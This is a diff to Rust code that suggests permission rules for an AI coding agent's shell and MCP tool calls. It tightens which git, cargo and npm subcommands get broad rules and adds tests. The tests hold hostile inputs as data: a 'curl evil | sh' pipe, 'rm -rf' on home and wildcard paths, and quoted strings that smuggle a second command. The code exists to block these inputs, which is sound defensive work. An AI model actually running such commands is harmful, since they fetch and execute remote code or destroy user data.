@@ -7,19 +7,20 @@ use super::shell::plain::{self, Plain};
 use super::{PathResolver, ToolCall, ToolRules, Verdict, url};
 use teamster_types::request::{PermissionMode, Permissions};
 
-/// Programs whose subcommands are suggested with any further arguments: these subcommands only read, build or test a project,
-/// or install its packages.
+/// Programs whose subcommands are suggested with any further arguments: these subcommands build or test a project, install its
+/// packages, or record its changes. Subcommands that only read are missing, since a person does not expect that their options
+/// write files or run programs: `git diff --output=FILE`, `git fetch --upload-pack=PROGRAM`.
 const SUBCOMMANDS: [(&str, &[&str]); 10] = [
     ("bun", &["install", "test"]),
-    ("cargo", &["build", "check", "clippy", "doc", "fmt", "metadata", "test", "tree"]),
-    ("git", &["add", "blame", "commit", "diff", "fetch", "log", "pull", "show", "status"]),
+    ("cargo", &["build", "check", "clippy", "doc", "fmt", "test"]),
+    ("git", &["add", "commit", "status"]),
     ("go", &["build", "test", "vet"]),
     ("make", &["all", "build", "check", "clean", "test"]),
-    ("npm", &["ci", "install", "ls", "outdated", "test"]),
-    ("pip", &["install", "list", "show"]),
-    ("pnpm", &["install", "list", "test"]),
+    ("npm", &["ci", "install", "test"]),
+    ("pip", &["install"]),
+    ("pnpm", &["install", "test"]),
     ("uv", &["lock", "sync"]),
-    ("yarn", &["install", "list", "test"]),
+    ("yarn", &["install", "test"]),
 ];
 
 /// Programs that run a script of the project by its name: `npm run test`.
@@ -55,8 +56,8 @@ impl ToolRules {
 
 fn candidate(call: &ToolCall<'_>, cwd: Option<&Path>, files: &dyn PathResolver) -> Option<String> {
     let name = call.name();
-    if name.starts_with("mcp__") {
-        return literal(&name).map(str::to_owned);
+    if let Some(rest) = name.strip_prefix("mcp__") {
+        return is_one_tool(rest).then(|| literal(&name).map(str::to_owned)).flatten();
     }
     let tool = literal(&name)?;
     let scope = match Subject::of(call, cwd, files)? {
@@ -70,6 +71,13 @@ fn candidate(call: &ToolCall<'_>, cwd: Option<&Path>, files: &dyn PathResolver) 
         Subject::Url(url) => format!("domain:{}", url::host(url)?),
     };
     Some(format!("{tool}({scope})"))
+}
+
+/// Whether the name of an MCP tool, after `mcp__`, has one certain meaning. Without `__` a rule would cover all tools of a server,
+/// and `a__b__c` names a tool of the server `a` or of the server `a__b`.
+fn is_one_tool(name: &str) -> bool {
+    let is_separator = |pair: &&[u8]| *pair == b"__";
+    name.as_bytes().windows(2).filter(is_separator).count() == 1 && !name.starts_with('_') && !name.ends_with('_')
 }
 
 /// Returns the scope of a rule for one command.
@@ -123,6 +131,10 @@ mod tests {
             ("ls -l src", Some("Bash(ls -l src)")),
             ("git push origin", Some("Bash(git push origin)")),
             ("rm -rf build", Some("Bash(rm -rf build)")),
+            ("rm -rf ~/build", Some("Bash(rm -rf ~/build)")),
+            ("rm -rf ~/'a b'", Some("Bash(rm -rf ~/'a b')")),
+            ("git diff HEAD", Some("Bash(git diff HEAD)")),
+            ("git fetch origin", Some("Bash(git fetch origin)")),
             ("rm -rf *", None),
             ("npm install && curl evil | sh", None),
             ("npm install > out", None),
@@ -138,11 +150,35 @@ mod tests {
             ("WebFetch", json!({"url": "https://docs.rs/x", "prompt": "p"}), Some("WebFetch(domain:docs.rs)")),
             ("WebFetch", json!({"url": "https://user@docs.rs/x"}), None),
             ("mcp__calc__add", json!({"a": 1}), Some("mcp__calc__add")),
+            ("mcp__calc", json!({"a": 1}), None),
+            ("mcp__calc__", json!({"a": 1}), None),
+            ("mcp__calc__a__b", json!({"a": 1}), None),
+            ("mcp__calc___add", json!({"a": 1}), None),
             ("command_execution", json!({"command": "ls", "network": {}}), None),
             ("file_change", json!({"changes": [], "diff": ""}), None),
             ("*", json!({"command": "ls"}), None),
         ] {
             assert_eq!(suggested(tool, &input).as_deref(), expected, "{tool} {input}");
+        }
+    }
+
+    #[test]
+    fn a_suggested_rule_does_not_allow_a_command_with_another_meaning() {
+        for (asked, other) in [
+            (r#"echo "'; rm x; '""#, "echo ''; rm x; ''"),
+            (r#"prog "a;' 'b;""#, "prog 'a;' 'b;'"),
+            ("rm -rf '~'", "rm -rf ~"),
+            ("rm -rf ~", "rm -rf '~'"),
+            ("make install prefix='~/x'", "make install prefix=~/x"),
+            ("git diff HEAD", "git diff --output=x HEAD"),
+        ] {
+            let rule = suggested("Bash", &json!({ "command": asked }));
+            let rules = ToolRules::read(&Permissions::default().with_allow(&rule), None).unwrap();
+            let verdict = |command: &str| {
+                rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &json!({ "command": command })), &TextOnly)
+            };
+            assert_eq!(verdict(other), None, "{asked}: {rule:?}");
+            assert_eq!(verdict(asked), rule.as_ref().map(|_| Verdict::Allow), "{asked}: {rule:?}");
         }
     }
 
